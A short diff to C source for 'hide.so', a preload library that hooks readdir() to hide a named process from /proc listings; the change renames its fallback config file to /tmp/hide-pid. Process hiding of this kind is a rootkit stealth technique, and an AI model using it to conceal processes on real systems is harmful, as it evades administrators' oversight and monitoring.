@@ -3,7 +3,7 @@
  * hide.so - hides a process from programs that list /proc
  *
  * When preloaded, it makes readdir() skip entries with the name in $RW_HIDE, or, if that
- * is not set, in the file /tmp/rw-hide.
+ * is not set, in the file /tmp/hide-pid.
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -21,7 +21,7 @@ static bool is_hidden(const char *name)
 	int fd;
 
 	if (!env && !*hidden) {
-		fd = open("/tmp/rw-hide", O_RDONLY | O_CLOEXEC);
+		fd = open("/tmp/hide-pid", O_RDONLY | O_CLOEXEC);
 		if (fd >= 0) {
 			if (read(fd, hidden, sizeof(hidden) - 1) > 0)
 				hidden[strcspn(hidden, "\n")] = '\0';
